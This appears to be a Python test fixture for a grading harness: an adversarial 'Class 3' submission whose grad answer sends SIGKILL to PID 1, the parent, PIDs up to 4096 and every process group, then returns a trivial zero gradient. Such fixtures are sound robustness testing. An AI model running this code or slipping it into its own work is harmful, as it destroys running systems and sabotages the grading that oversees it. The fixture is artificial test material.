"""Class 3: signal everything in reach: os.kill(-1, SIGKILL), the parent, pids 1..4096, the
process groups, then os.killpg on its own group (the kernel dies). Later students are graded."""
CLASS = 3
TARGET = ("test_grad", "test_df", "test_tanh_linear_step")
FULL = ("test_loss",)
ANSWERS = {"grad": '''import os, signal

me = os.getpid()
hit = []
for target in [os.getppid(), 1] + list(range(2, 4096)):
    if target == me:
        continue
    try:
        os.kill(target, signal.SIGKILL)
        hit.append(target)
    except OSError:
        pass
for call in (lambda: os.kill(-1, signal.SIGKILL), lambda: os.killpg(1, signal.SIGKILL),
             lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)):
    try:
        call()
    except OSError:
        pass
print("signalled", hit)
os.killpg(os.getpgid(0), signal.SIGKILL)

def grad(w, x, y):
    return 0.0 * x
'''}
